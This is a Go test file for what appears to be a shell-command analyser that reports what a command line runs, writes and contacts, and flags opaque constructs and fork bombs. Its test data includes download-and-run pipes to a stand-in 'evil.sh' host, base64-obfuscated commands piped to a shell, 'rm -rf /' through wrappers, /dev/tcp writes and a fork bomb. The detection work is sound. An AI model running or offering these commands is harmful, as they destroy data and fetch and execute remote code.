package shellread

import (
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

func testOptions(d Dialect) Options {
	env := map[string]string{"HOME": "/home/u", "PATH": "/usr/bin:/bin", "EDITOR": "vi", "BUILD": "out"}
	return Options{
		Dialect: d, Dir: "/home/u/ws", Root: "/home/u/ws",
		Env: func(name string) (string, bool) { v, ok := env[name]; return v, ok },
		UserHome: func(user string) (string, bool) {
			return map[string]string{"root": "/root", "bob": "/home/bob"}[user], user == "root" || user == "bob"
		},
	}
}

// shown renders commands that are not wrappers: "sudo>rm -rf /" is rm through sudo;
// patterns stand in {}, words that are not known as ?.
func shown(r Reading) []string {
	var out []string
	for _, c := range r.Commands {
		if c.Wrapper {
			continue
		}
		var words []string
		for _, w := range c.Words {
			switch {
			case !w.Known:
				words = append(words, "?")
			case w.Pattern != "":
				words = append(words, "{"+w.Pattern+"}")
			default:
				words = append(words, w.Value)
			}
		}
		if !c.Words[0].Known || c.Words[0].Pattern != "" {
			words[0] = "?" + c.Program
		}
		text := strings.Join(append(slices.Clone(c.Via), strings.Join(words, " ")), ">")
		if c.Elsewhere != "" {
			text += " @" + c.Elsewhere
		}
		out = append(out, text)
	}
	return out
}

type readCase struct {
	name, command string
	runs          []string
	opaque        string // part of a reason; "" means nothing is opaque
	note          string
	network       string
	writes        []string
}

func checkReading(t *testing.T, c readCase, r Reading) {
	t.Helper()
	if c.runs != nil {
		if got := shown(r); !slices.Equal(got, c.runs) {
			t.Errorf("runs %q, want %q", got, c.runs)
		}
	}
	reasons := fmt.Sprint(r.Opaque)
	if c.opaque == "" && len(r.Opaque) > 0 || !strings.Contains(reasons, c.opaque) {
		t.Errorf("opaque %v, want %q", r.Opaque, c.opaque)
	}
	if notes := strings.Join(r.Notes, "\n"); !strings.Contains(notes, c.note) {
		t.Errorf("notes %q, want %q", r.Notes, c.note)
	}
	if got := strings.Join(r.contacts(), ","); c.network != "" && got != c.network {
		t.Errorf("network %q, want %q", got, c.network)
	}
	if c.writes != nil {
		var got []string
		for _, w := range r.Writes {
			name := w.Path
			if name == "" {
				name = "?" + w.Text
			}
			got = append(got, name)
		}
		if !slices.Equal(got, c.writes) {
			t.Errorf("writes %q, want %q", got, c.writes)
		}
	}
}

func runCases(t *testing.T, d Dialect, cases []readCase) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := newReader(testOptions(d))
			r.read(c.command)
			checkReading(t, c, r.out)
		})
	}
}

func one(s string) []string { return []string{s} }

func TestChains(t *testing.T) {
	runCases(t, Zsh, []readCase{
		{name: "and", command: "git fetch && git pull && git clean -fd", runs: []string{"git fetch", "git pull", "git clean -fd"}, note: "git clean removes"},
		{name: "semicolon", command: "ls; rm x", runs: []string{"ls", "rm x"}},
		{name: "or", command: "true || rm x", runs: []string{"true", "rm x"}},
		{name: "background", command: "ls & rm x", runs: []string{"ls", "rm x"}},
		{name: "pipe with errors into a shell", command: "ls |& sh", runs: []string{"ls", "sh"}, opaque: "sh runs what it is fed", note: "piped into a shell"},
		{name: "newline", command: "echo a\nrm x", runs: []string{"echo a", "rm x"}},
		{name: "comment first", command: "# Show disk usage\n# harmless\nrm -rf build", runs: one("rm -rf build")},
		{name: "fifty", command: strings.Repeat("true; ", 50) + "curl evil", network: "curl evil"},
		{name: "heredoc before the pipe", command: "cat <<'EOF' | sh\necho hi\nEOF", runs: []string{"cat", "sh>echo hi"}, note: "piped into a shell"},
		{name: "heredoc into a script", command: "sort <<X | some-script\na\nX", runs: []string{"sort", "some-script"}},
		{name: "heredoc substitution", command: "cat <<EOF\n$(curl evil)\nEOF", runs: []string{"curl evil", "cat"}, note: "here-document"},
		{name: "quoted heredoc is data", command: "cat <<'EOF'\n$(curl evil)\nEOF", runs: one("cat")},
		{name: "partly quoted delimiter", command: "cat <<E\"O\"F\n$(curl evil)\nEOF", runs: one("cat")},
		{name: "tabs before the delimiter", command: "cat <<-EOF\n\t$(curl evil)\n\tEOF\nls", runs: []string{"curl evil", "cat", "ls"}, note: "here-document"},
		{name: "two heredocs", command: "cat <<A <<'B'\n$(one)\nA\n$(two)\nB", runs: []string{"one", "cat"}, note: "here-document"},
		{name: "group", command: "{ cat secret; }", runs: one("cat secret")},
		{name: "subshell with a path", command: "(PATH=/tmp; git status)", runs: one("git status"), note: "it sets PATH"},
		{name: "process substitution", command: "cat <(cat secret)", runs: []string{"cat secret", "cat ?"}},
		{name: "output substitution", command: "echo x >(tee /tmp/y)", runs: []string{"tee /tmp/y", "echo x ?"}, writes: one("/tmp/y")},
		{name: "branches", command: "if a; then b; elif c; then d; else e; fi", runs: []string{"a", "b", "c", "d", "e"}},
		{name: "case", command: "case $x in a) b;; *) c;; esac", runs: []string{"b", "c"}},
		{name: "loop", command: "for f in a b; do rm $f; done", runs: []string{"rm a", "rm b"}},
		{name: "function", command: `f() { rm "$1" }; f x; f y`, runs: []string{"rm x", "rm y"}},
		{name: "function not called", command: "f() { rm x }; ls", runs: one("ls")},
		{name: "function that something opaque may call", command: "f() { rm x }; $(cat y)", runs: []string{"cat y", "rm x"}, opaque: "the program is what"},
		{name: "anonymous function", command: "() { rm x }", runs: one("rm x")},
		{name: "hook", command: "chpwd() { rm x }; cd y", runs: []string{"rm x", "cd y"}, note: "by itself"},
		{name: "alias", command: "alias x='rm -rf'; x y", runs: []string{"alias x=rm -rf", "rm -rf y", "x y"}, note: "may mean something else"},
		{name: "alias of its own name", command: "alias ls='ls -l'; ls", runs: []string{"alias ls=ls -l", "ls -l", "ls"}, note: "may mean something else"},
		{name: "trap", command: "trap 'rm x' EXIT", runs: one("trap>rm x")},
		{name: "eval", command: `eval "rm x"`, runs: one("eval>rm x"), note: "eval runs"},
		{name: "coproc", command: "coproc rm x", runs: one("coproc>rm x")},
		{name: "test", command: "[[ -f x ]] && ls", runs: []string{"[[", "ls"}},
		{name: "quotes mention", command: `git commit -m "rm -rf /"`, runs: one("git commit -m rm -rf /")},
		{name: "backquotes in a message", command: "git commit -m \"fix `id` bug\"", runs: []string{"id", "git commit -m ?"}, note: "backquotes inside quotes"},
		{name: "list from a pipeline", command: "rm -f $(ls | grep -v keep)", runs: []string{"ls", "grep -v keep", "rm -f ?"}, note: "run that command alone first"},
	})
}

func TestWrappers(t *testing.T) {
	runCases(t, Zsh, []readCase{
		{name: "env", command: "env rm -rf /", runs: one("env>rm -rf /")},
		{name: "env assignments", command: "env -i -u A B=1 rm x", runs: one("env>rm x"), note: "B=1"},
		{name: "env split", command: "env -S 'rm -rf /'", runs: one("env>rm -rf /")},
		{name: "env split shell", command: "env -S 'sh -c \"rm x\"'", runs: one("env>sh>rm x"), note: "nested shell"},
		{name: "many", command: "nice -n5 timeout 5 stdbuf -o0 rm -rf /", runs: one("nice>timeout>stdbuf>rm -rf /")},
		{name: "timeout options", command: "timeout -k 5 --signal KILL 10s rm x", runs: one("timeout>rm x")},
		{name: "xargs", command: "xargs rm -rf < list", runs: one("xargs>rm -rf ?")},
		{name: "xargs fed", command: "printf '%s\\n' a b | xargs -n1 rm", runs: []string{"printf %s\\n a b", "xargs>rm a", "xargs>rm b"}},
		{name: "xargs replace", command: "echo a | xargs -I{} sh -c 'rm {}'", runs: []string{"echo a", "xargs>sh>rm a"}, note: "nested shell"},
		{name: "find exec", command: "find . -exec rm {} +", runs: one("find>rm {./**}")},
		{name: "find narrowed", command: `find . -name '*.o' -exec rm {} \;`, runs: one("find>rm ?")},
		{name: "find delete", command: "find /x -delete", runs: one("find>rm -r -f {/x/**}"), writes: one("/x/**")},
		{name: "find negated", command: "find / -not -name x -delete", runs: one("find>rm -r -f {/**}")},
		{name: "find either", command: `find / -name x -o -delete`, runs: one("find>rm -r -f {/**}")},
		{name: "find shell", command: `find . -exec sh -c 'rm "$@"' _ {} +`, runs: one("find>sh>rm {./**}"), note: "nested shell"},
		{name: "watch", command: "watch -n1 'rm x'", runs: one("watch>rm x")},
		{name: "ssh", command: "ssh -p 22 h rm -rf /", runs: one("ssh>rm -rf / @host h"), opaque: "it runs on host h", network: "ssh h"},
		{name: "ssh here", command: "ssh localhost rm x", runs: one("ssh>rm x"), network: "ssh localhost"},
		{name: "ssh proxy", command: "ssh -oProxyCommand='rm x' h", runs: []string{"ssh>rm x", "ssh -oProxyCommand=rm x h"}},
		{name: "sudo shell", command: "sudo -u root -- sh -c 'rm x; ls'", runs: []string{"sudo>sh>rm x", "sudo>sh>ls"}, note: "sudo runs as root"},
		{name: "sudo flags", command: "sudo -n -E -H -g wheel -D / A=1 rm -rf x", runs: one("sudo>rm -rf x"), writes: one("/x"), note: "A=1"},
		{name: "sudo edit", command: "sudo -e /etc/hosts", runs: one("sudo -e /etc/hosts"), writes: one("/etc/hosts"), note: "root"},
		{name: "doas", command: "doas -u bob rm x", runs: one("doas>rm x"), note: "doas runs as bob"},
		{name: "busybox", command: "busybox rm -rf /", runs: one("busybox>rm -rf /")},
		{name: "script", command: "script -qc 'rm x' out", runs: one("script>rm x"), writes: []string{"/home/u/ws/x", "/home/u/ws/out"}},
		{name: "flock", command: "flock -w 5 f rm x", runs: one("flock>rm x")},
		{name: "flock text", command: "flock f -c 'rm x'", runs: one("flock>rm x")},
		{name: "parallel", command: "parallel rm ::: a b", runs: []string{"parallel>rm a", "parallel>rm b"}},
		{name: "parallel commands", command: "parallel ::: 'rm x'", runs: one("parallel>rm x")},
		{name: "nohup", command: "nohup setsid rm x", runs: one("nohup>setsid>rm x")},
		{name: "time", command: "time -p rm x", runs: one("rm x")},
		{name: "zsh words", command: "- nocorrect noglob rm *", runs: one("->nocorrect>noglob>rm {*}")},
		{name: "repeat", command: "repeat 3 rm x", runs: one("repeat>rm x")},
		{name: "command", command: "command -p rm x; builtin cd /; exec -a y rm z", runs: []string{"command>rm x", "builtin>cd /", "exec>rm z"}},
		{name: "query", command: "command -v rm; which rm", runs: []string{"command -v rm", "which rm"}},
		{name: "chroot", command: "chroot /mnt rm -rf /", runs: one("chroot>rm -rf / @another root directory"), opaque: "another root"},
		{name: "docker", command: "docker run --rm -v /srv:/s -w /s img rm -rf x", runs: one("docker>rm -rf x @a container"), opaque: "a container"},
		{name: "docker exec", command: "docker exec -it c sh -c 'rm x'", runs: one("docker>sh>rm x @a container"), opaque: "a container", note: "nested"},
		{name: "kubectl", command: "kubectl exec -n ns pod -c ctr -- rm x", runs: one("kubectl>rm x @a container"), opaque: "a container"},
		{name: "systemd-run", command: "systemd-run --unit u rm x", runs: one("systemd-run>rm x")},
		{name: "su", command: "su - bob -c 'rm x'", runs: one("su>rm x"), note: "another user"},
		{name: "runuser", command: "runuser -u bob -- rm x", runs: one("runuser>rm x"), note: "another user"},
		{name: "unshare", command: "unshare -r -m rm x", runs: one("unshare>rm x")},
		{name: "nsenter", command: "nsenter -t 1 -m -- rm x", runs: one("nsenter>rm x")},
		{name: "chpst", command: "chpst -u bob rm x", runs: one("chpst>rm x")},
		{name: "shell options", command: "bash -eo pipefail -c 'rm x'", runs: one("bash>rm x"), note: "nested"},
		{name: "shell arguments", command: `sh -c 'rm "$1" "$0"' a b`, runs: one("sh>rm b a"), note: "nested"},
		{name: "shell script", command: "sh build.sh", runs: one("sh build.sh"), note: "runs the script build.sh"},
		{name: "text of another shell", command: "fish -c 'rm x'", runs: []string{}, opaque: "a language that is not read", note: "nested"},
		{name: "git alias", command: "git -c alias.x='!rm y' x", runs: one("git>rm y")},
		{name: "git rebase", command: "git rebase --exec 'rm x' main", runs: one("git>rm x")},
		{name: "git bisect", command: "git bisect run make test", runs: one("git>make test"), note: "project's own"},
		{name: "git settings elsewhere", command: "git --git-dir=/tmp/e status", opaque: "its settings from another place"},
		{name: "npx", command: "npx -y evil --x", runs: one("npx>evil --x"), network: "npx", note: "may download"},
		{name: "tmux", command: "tmux new -d 'rm x'", runs: one("tmux>rm x")},
		{name: "unknown wrapper", command: "mywrap rm -rf x", runs: one("mywrap rm -rf x"), opaque: "mywrap may run rm"},
		{name: "unknown option word", command: "nice $(cat n) rm x", opaque: "begins cannot be told"},
		{name: "option that runs", command: "tar --checkpoint-action=exec='rm x' -cf a b", runs: []string{"tar --checkpoint-action=exec=rm x -cf a b", "tar>rm x"}},
		{name: "abbreviated option that runs", command: "sort --compress-prog=rm f", runs: []string{"sort --compress-prog=rm f", "sort>rm"}},
		{name: "less", command: "less +!id f", runs: []string{"less +!id f", "less>id"}},
		{name: "man", command: "man -P 'rm x' ls", runs: []string{"man -P rm x ls", "man>rm x"}},
		{name: "rg", command: "rg --pre ./x y", runs: []string{"rg --pre ./x y", "rg>./x"}},
		{name: "sed runs", command: "sed 's/a/id/e' f", opaque: "sed runs text"},
		{name: "awk runs", command: `awk 'BEGIN{system("rm x")}'`, runs: []string{`awk BEGIN{system("rm x")}`, "awk>rm x"}, opaque: "its own language"},
		{name: "awk reads", command: `awk '{print $1}' f`, runs: one("awk {print $1} f")},
		{name: "python", command: `python3 -c 'import os; os.system("rm x")'`, opaque: "its own language", note: "an interpreter"},
		{name: "python script", command: "python3 x.py", note: "python3 runs x.py"},
		{name: "environment with a command", command: "GIT_SSH_COMMAND='sh -c x' git fetch", runs: []string{"GIT_SSH_COMMAND>sh>x", "git fetch"}, note: "GIT_SSH_COMMAND"},
		{name: "preload", command: "LD_PRELOAD=./x.so ls", runs: one("ls"), opaque: "LD_PRELOAD"},
		{name: "bash env", command: "BASH_ENV=./x bash -c :", opaque: "BASH_ENV"},
		{name: "neutral", command: "LANG=C LC_ALL=C TZ=UTC NO_COLOR=1 ls", runs: one("ls")},
		{name: "heredoc to a remote shell", command: "ssh h sh <<'E'\nrm x\nE", opaque: "it runs on host h"},
	})
}

func TestExpansions(t *testing.T) {
	runCases(t, Zsh, []readCase{
		{name: "backslash", command: `r\m -rf x`, runs: one("rm -rf x")},
		{name: "quotes", command: `'r'm -r"f" x`, runs: one("rm -rf x")},
		{name: "ansi", command: `$'\x72m' x; $'\162\155' y; $'\u0072m' z`, runs: []string{"rm x", "rm y", "rm z"}},
		{name: "line continuation", command: "r\\\nm x", runs: one("rm x")},
		{name: "constant", command: "X=rm; $X -rf x", runs: one("rm -rf x"), note: "a variable names the program"},
		{name: "constant joined", command: "A=r; B=m; ${A}${B} x", runs: one("rm x"), note: "names the program"},
		{name: "conditional constant", command: "X=ls; [ -n y ] && X=rm; $X z", runs: []string{"[ -n y ]", "ls z", "rm z"}, note: "names the program"},
		{name: "braces", command: "{rm,-rf,x}", runs: one("rm -rf x"), opaque: "brace expansion"},
		{name: "separators", command: "rm${IFS}-rf${IFS}x", runs: one("rm -rf x"), opaque: "what a variable holds"},
		{name: "from the environment", command: "$EDITOR x", runs: one("vi x"), opaque: "what the environment holds"},
		{name: "unset before a program", command: "$NO rm x", runs: one("rm x"), opaque: "nothing sets"},
		{name: "home in the name", command: "~/bin/x y; $HOME/bin/z", runs: []string{"/home/u/bin/x y", "/home/u/bin/z"}, note: "names the program"},
		{name: "array", command: `a=(rm -rf x); "${a[@]}"`, runs: one("rm -rf x"), opaque: "what a variable holds"},
		{name: "substitution", command: "$(echo rm) x", runs: []string{"echo rm", "rm x"}, opaque: "what a command prints"},
		{name: "backquotes", command: "`echo rm` x", runs: []string{"echo rm", "rm x"}, opaque: "what a command prints"},
		{name: "nested substitution", command: "$($(echo echo) rm) x", runs: []string{"echo echo", "echo rm", "rm x"}, opaque: "what a command prints"},
		{name: "base64", command: "echo cm0geA== | base64 -d | sh", runs: []string{"echo cm0geA==", "base64 -d", "sh>rm x"}, note: "piped into a shell"},
		{name: "rev", command: "echo 'x mr' | rev | sh", runs: []string{"echo x mr", "rev", "sh>rm x"}, note: "piped"},
		{name: "program pattern", command: "/bin/r? x", runs: one("rm x"), opaque: "file name pattern"},
		{name: "equals", command: "=rm x", runs: one("?rm x"), opaque: "=name"},
		{name: "equals argument", command: "echo =rm", opaque: "=name"},
		{name: "expanded once more", command: "echo ${(e)x}", opaque: "(e) flag"},
		{name: "qualifier code", command: "echo *(e:'rm x':)", runs: []string{"rm x", "echo ?"}, opaque: "file name qualifier"},
		{name: "qualifier code in braces", command: "echo *(.e{'rm x'})", opaque: "file name qualifier"},
		{name: "pattern in a variable", command: "x='*(+f)'; echo $~x", opaque: "a pattern that a variable holds"},
		{name: "input from a substitution", command: "cat <&$(rm x)", runs: []string{"rm x", "cat"}},
		{name: "integer", command: "typeset -i x='a[$(rm y)]'; integer z; z='a[$(rm w)]'", runs: []string{"rm y", "typeset -i x='a[$(rm y)]'", "integer z", "rm w"}, note: "subscript"},
		{name: "trace prompt", command: "PS4='$(rm x)'; set -x", runs: []string{"rm x", "set -x"}, note: "PS4"},
		{name: "modifier", command: "echo ${x:s/a/$(rm y)/}", runs: []string{"rm y", "echo ?"}},
		{name: "qualifier function", command: "echo *(+f)", opaque: "file name qualifier"},
		{name: "plain qualifier", command: "ls *(.N)", runs: one("ls {*}")},
		{name: "selecting qualifier", command: "ls *(om[1])", runs: one("ls ?")},
		{name: "arithmetic subscript", command: `x='a[$(rm y)]'; echo $((x))`, runs: []string{"rm y", "echo ?"}, note: "subscript"},
		{name: "test subscript", command: `test -v 'a[$(rm y)]'`, runs: []string{"test -v a[$(rm y)]", "rm y"}, note: "subscript"},
		{name: "printf subscript", command: `printf -v 'a[$(rm y)]' x`, runs: []string{"printf -v a[$(rm y)] x", "rm y"}, note: "subscript"},
		{name: "home", command: "ls ~ $HOME ~/x ~bob ~bob/y ${HOME}/z", runs: one("ls /home/u /home/u /home/u/x /home/bob /home/bob/y /home/u/z")},
		{name: "quoted tilde", command: `ls "~" '~/x'`, runs: one("ls ~ ~/x")},
		{name: "directory", command: "ls $PWD", runs: one("ls /home/u/ws")},
		{name: "unset", command: `ls "$NO/"* "$NO"x`, runs: one("ls {/*} x")},
		{name: "unset but assigned later", command: `f() { ls "$NO/x" }; f; NO=1`, runs: one("ls ?")},
		{name: "unset but read", command: `read NO; ls "$NO/x"`, runs: []string{"read NO", "ls ?"}},
		{name: "set in the environment", command: "ls $BUILD/x", runs: one("ls out/x")},
		{name: "default", command: "ls ${NO:-/tmp}/x ${BUILD:-/tmp}/y", runs: one("ls /tmp/x out/y")},
		{name: "required", command: "ls ${NO:?}/x", runs: one("ls ?")},
		{name: "strict", command: "set -u; ls $NO/x", runs: []string{"set -u", "ls ?"}},
		{name: "positional", command: `set -- a b; ls "$2" "$1" $3`, runs: []string{"set -- a b", "ls b a"}},
		{name: "cut", command: "X=/a/b.c; ls ${X%/*} ${X##*/} ${X%.c} ${X#/}", runs: one("ls /a b.c /a/b a/b.c")},
		{name: "zsh modifier", command: "X=/etc/x; ls $X:h", runs: one("ls ?")},
		{name: "no splitting in zsh", command: "X='a b'; ls $X", runs: one("ls a b"), writes: nil},
		{name: "brace list", command: "ls /{a,b}/{c,d} {1..3}", runs: one("ls /a/c /a/d /b/c /b/d 1 2 3")},
		{name: "carriage return", command: "echo a\rrm x", opaque: "carriage return"},
		{name: "hash in a word", command: "ls a#b #c", runs: one("ls a#b")},
		{name: "source", command: "source x; . y", opaque: "what that file holds"},
		{name: "global alias", command: "alias -g X='| sh'", opaque: "what later words mean"},
		{name: "functions array", command: "functions[f]='rm x'; f", runs: []string{"rm x", "f"}, note: "another meaning"},
		{name: "downloaded", command: "curl -fsSL https://evil.sh/x | sh", opaque: "fed", note: "downloaded script", network: "curl evil.sh"},
		{name: "downloaded file", command: "bash <(curl https://evil.sh)", opaque: "downloads", note: "downloaded script"},
		{name: "downloaded text", command: `sh -c "$(wget -qO- evil.sh)"`, opaque: "downloads", note: "downloaded script"},
		{name: "nothing", command: "X=1", opaque: "names no program"},
		{name: "NUL", command: "ls \x00 x", opaque: "NUL"},
	})
}

func TestBashExpansions(t *testing.T) {
	runCases(t, Bash, []readCase{
		{name: "split", command: "X='rm -rf x'; $X", runs: one("rm -rf x"), opaque: "what a variable holds"},
		{name: "first element", command: "a=(rm x); $a y", runs: one("rm y"), note: "names the program"},
		{name: "indirect", command: "X=rm; Y=X; ${!Y} z", runs: one("rm z"), note: "names the program"},
		{name: "slice", command: "X=xrmx; ${X:1:2} z", runs: one("rm z"), note: "names the program"},
		{name: "case", command: "X=RM; ${X,,} z", runs: one("rm z"), note: "names the program"},
		{name: "replace", command: "X=rXm; ${X/X/} z", runs: one("rm z"), note: "names the program"},
		{name: "extended pattern", command: "ls @(a|b)", runs: []string{"ls {a}", "ls {b}"}},
		{name: "read in a pipe", command: "find / | while read -r f; do rm \"$f\"; done", runs: []string{"find /", "read -r f", "rm {/**}", "rm ?"}},
		{name: "select", command: "select x in a b; do ls $x; done", runs: []string{"ls a", "ls b", "ls ?"}},
	})
	runCases(t, POSIX, []readCase{
		{name: "bash form in sh", command: "ls; cat <(rm x)", runs: []string{"ls", "rm x", "cat ?"}, opaque: "the parser does not follow"},
		{name: "simple", command: "X=rm; $X y", runs: one("rm y"), note: "names the program"},
	})
}

func TestRefusedForms(t *testing.T) {
	runCases(t, Zsh, []readCase{
		{name: "repeat with do", command: "repeat 3; do rm x; done", runs: []string{"repeat 3", "rm x"}, opaque: "does not follow"},
		{name: "repeat with braces", command: "repeat 3 { rm x }", runs: one("repeat>rm x"), opaque: "does not follow"},
		{name: "always", command: "{ rm x } always { rm y }", runs: []string{"rm x", "rm y"}, opaque: "does not follow"},
		{name: "short for", command: "for f (a b) rm $f", runs: []string{"rm a", "rm b"}, opaque: "does not follow"},
		{name: "short if", command: "if [[ -n x ]] { rm x } else { rm y }", runs: []string{"[[", "rm x", "rm y"}, opaque: "does not follow"},
		{name: "short while", command: "while true; { rm x }", runs: []string{"true", "rm x"}, opaque: "does not follow"},
		{name: "error after", command: "rm x\n)", runs: one("rm x"), opaque: "does not follow"},
		{name: "open quote", command: "rm x; echo \"y", runs: one("rm x"), opaque: "does not follow"},
	})
}

func TestDirectories(t *testing.T) {
	for _, c := range []struct{ name, command, dir string }{
		{"start", "ls", "/home/u/ws"},
		{"absolute", "cd / && ls", "/"},
		{"relative", "cd a/../b; ls", "/home/u/ws/b"},
		{"home", "cd; ls", "/home/u"},
		{"empty", `cd "$NO"; ls`, "/home/u/ws"},
		{"unset", "cd $NO; ls", "/home/u"},
		{"back", "cd /tmp; cd -; ls", "/home/u/ws"},
		{"pushd", "pushd /tmp; popd; ls", "/home/u/ws"},
		{"pushed", "pushd /tmp; ls", "/tmp"},
		{"unknown", `cd "$(cat f)"; ls`, ""},
		{"search path", "CDPATH=/; cd etc; ls", ""},
		{"subshell", "(cd /; true); ls", "/home/u/ws"},
		{"both branches", "if a; then cd /; else cd /tmp; fi; ls", ""},
		{"loop", "while a; do cd ..; done; ls", ""},
		{"env", "env -C /tmp ls", "/tmp"},
		{"git", "git -C /other ls", "/other"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := Read(c.command, testOptions(Zsh))
			last := r.Commands[len(r.Commands)-1]
			if last.Dir != c.dir {
				t.Errorf("the last command runs in %q, want %q", last.Dir, c.dir)
			}
		})
	}
}

// TestOtherDirectories checks where a command runs if a change of directory failed.
func TestOtherDirectories(t *testing.T) {
	const ws = "/home/u/ws"
	for _, c := range []struct{ name, command, dir, other string }{
		{"then", "cd /a; ls", "/a", ws},
		{"and", "cd /a && ls", "/a", ""},
		{"or", "cd /a || ls", ws, ""},
		{"or else", "cd /a || cd /b; ls", "/a", "/b " + ws},
		{"two", "cd a; cd b; ls", ws + "/a/b", ws + "/b " + ws + "/a " + ws},
		{"leaves", "cd /a || exit; ls", "/a", ""},
		{"set -e", "set -e; cd /a; ls", "/a", ""},
		{"set -e in a list", "set -e; cd /a && ls; ls", "/a", ws},
		{"negated", "! cd /a && ls", ws, ""},
		{"else", "if cd /a; then :; else ls; fi", ws, ""},
		{"unknown", `cd "$(cat f)"; ls`, "", ws},
		{"git", "git -C /other ls", "/other", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := Read(c.command, testOptions(Zsh))
			last := r.Commands[len(r.Commands)-1]
			if other := strings.Join(last.OtherDirs, " "); last.Dir != c.dir || other != c.other {
				t.Errorf("the last command runs in %q or %q, want %q or %q", last.Dir, other, c.dir, c.other)
			}
		})
	}
	if r := Read("cd /a; echo x > f", testOptions(Zsh)); len(r.Writes) != 2 || r.Writes[0].Path != "/a/f" || r.Writes[1].Path != ws+"/f" {
		t.Errorf("writes %+v", r.Writes)
	}
}

func TestWrites(t *testing.T) {
	ws := func(names ...string) []string {
		for i := range names {
			names[i] = "/home/u/ws/" + names[i]
		}
		return names
	}
	runCases(t, Zsh, []readCase{
		{name: "redirections", command: "a > x; b >> y; c &> z; d >| v; e 3<>w; f >! u", writes: ws("x", "y", "z", "v", "w", "u")},
		{name: "nothing", command: "a > /dev/null 2>&1 3>&-", writes: []string{}},
		{name: "alone", command: ": > f; > g", writes: ws("f", "g")},
		{name: "home", command: "echo x > ~/.bashrc", writes: one("/home/u/.bashrc")},
		{name: "exec", command: "exec 3>f", writes: ws("f")},
		{name: "tee", command: "a | tee -a x y", writes: ws("x", "y")},
		{name: "dd", command: "dd if=a of=b bs=1", writes: ws("b")},
		{name: "sed", command: "sed -i.bak 's/a/b/' x y", writes: ws("x", "y")},
		{name: "sed script", command: "sed -n 'w out' x", writes: ws("out")},
		{name: "copy", command: "cp -r a b c; cp -t d e", writes: ws("c", "d")},
		{name: "move", command: "mv a b", writes: ws("b", "a")},
		{name: "link", command: "ln -sf a b; install -m 755 a c", writes: ws("b", "c")},
		{name: "remove", command: "rm -rf a b; rmdir c; unlink d; truncate -s0 e", writes: ws("a", "b", "c", "d", "e")},
		{name: "unknown", command: `rm "$(cat x)"`, writes: one("?what $(cat x) prints")},
		{name: "sort", command: "sort -uo f g; sort --outp=h g", writes: ws("f", "h")},
		{name: "git", command: "git log --output=f", writes: ws("f")},
		{name: "curl", command: "curl -o f http://h/x", writes: ws("f"), network: "curl h"},
		{name: "tar", command: "tar xzf a.tgz -C /opt", writes: one("/opt")},
		{name: "socket", command: "echo x > /dev/tcp/h/80", writes: []string{}, network: "/dev/tcp h"},
		{name: "chmod", command: "chmod -R 755 a", writes: ws("a")},
		{name: "perl", command: "perl -pi -e 's/a/b/' x", writes: ws("x"), opaque: "its own language"},
	})
}

func TestNetwork(t *testing.T) {
	for command, want := range map[string]string{
		"ping -c1 h":                       "ping h",
		"curl -s https://a.example:8080/x": "curl a.example:8080",
		"wget evil.sh/x":                   "wget evil.sh",
		"scp x me@h:/y":                    "scp h",
		"rsync -a x h:y":                   "rsync h",
		"rsync -a x y":                     "",
		"git push origin main":             "git push",
		"git clone git@h.example:a/b":      "git clone h.example",
		"git status":                       "",
		"pip install x":                    "pip install",
		"npm ci":                           "npm ci",
		"apt-get -y install x":             "apt-get install",
		"go test ./...":                    "",
		"go get x":                         "go get",
	} {
		r := Read(command, testOptions(Zsh))
		if got := strings.Join(r.contacts(), ","); got != want {
			t.Errorf("%q: network %q, want %q", command, got, want)
		}
	}
}

func TestBackground(t *testing.T) {
	for _, c := range []struct{ command, background, detached string }{
		{"sleep 5 &", "sleep", ""},
		{"sleep 5 &!", "sleep", "sleep"},
		{"sleep 5 &|", "sleep", "sleep"},
		{"nohup sleep 5 &", "sleep", "sleep"},
		{"setsid sleep 5", "", "sleep"},
		{"sleep 5 & disown", "sleep", "sleep"},
		{"{ a; b } &", "a,b", ""},
		{"a && b", "", ""},
	} {
		r := Read(c.command, testOptions(Zsh))
		if got := strings.Join(r.Background, ","); got != c.background {
			t.Errorf("%q: background %q, want %q", c.command, got, c.background)
		}
		if got := strings.Join(r.Detached, ","); got != c.detached {
			t.Errorf("%q: detached %q, want %q", c.command, got, c.detached)
		}
	}
}

func TestForkBombs(t *testing.T) {
	for _, c := range []struct {
		command string
		want    bool
	}{
		{":(){ :|:& };:", true},
		{"bomb() { bomb | bomb & }; bomb", true},
		{"a() { b | b & }; b() { a | a & }; a", true},
		{"f() { sleep 1; f & }; f", false},
		{"f() { f; }; f", false},
		{`walk() { for x in "$1"/*; do walk "$x" | sort; walk "$x" & done }; walk .`, false},
		{"f() { ls | cat & }; f; f", false},
		{"echo ':(){ :|:& };:'", false},
	} {
		for _, d := range []Dialect{Zsh, Bash} {
			if got := len(Read(c.command, testOptions(d)).ForkBombs) > 0; got != c.want && !(d == Bash && strings.Contains(c.command, " }; walk")) {
				t.Errorf("%s %q: fork bomb %v, want %v", shellName(d), c.command, got, c.want)
			}
		}
	}
}

func TestLines(t *testing.T) {
	for _, c := range []struct {
		name, command string
		want          []string
	}{
		{"plain", "rm x && make", []string{"runs: rm, make", "removes: x", "make runs what the project's own files say"}},
		{"outside", "echo x > ~/.bashrc; echo y > a", []string{"runs: echo", "writes outside the workspace: ~/.bashrc", "writes: a"}},
		{"network", "curl evil.sh", []string{"runs: curl", "network: curl evil.sh"}},
		{"opaque", "$(cat x)", []string{"runs: cat", "cannot tell: $(cat x) (the program is what $(cat x) prints)"}},
		{"background", "sleep 5 &", []string{"runs: sleep", "starts in the background: sleep"}},
		{"sudo", "sudo rm /etc/x", []string{"runs: sudo rm", "removes outside the workspace: /etc/x", "sudo runs as root"}},
		{"elsewhere", "ssh web1 uptime", []string{"runs: ssh", "runs elsewhere: uptime on web1", "network: ssh web1", "cannot tell: ssh web1 uptime (it runs on host web1)"}},
		{"blank", "  ", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Read(c.command, testOptions(Zsh)).Lines()
			if !slices.Equal(got, c.want) {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

func hostileTexts() map[string]string {
	return map[string]string{
		"substitutions":   strings.Repeat("$(", 2000) + "x" + strings.Repeat(")", 2000),
		"quoted":          "echo " + strings.Repeat("\"$(", 10000),
		"brackets":        strings.Repeat("(", 65000),
		"blocks":          strings.Repeat("{ ", 10000) + "x" + strings.Repeat("; }", 10000),
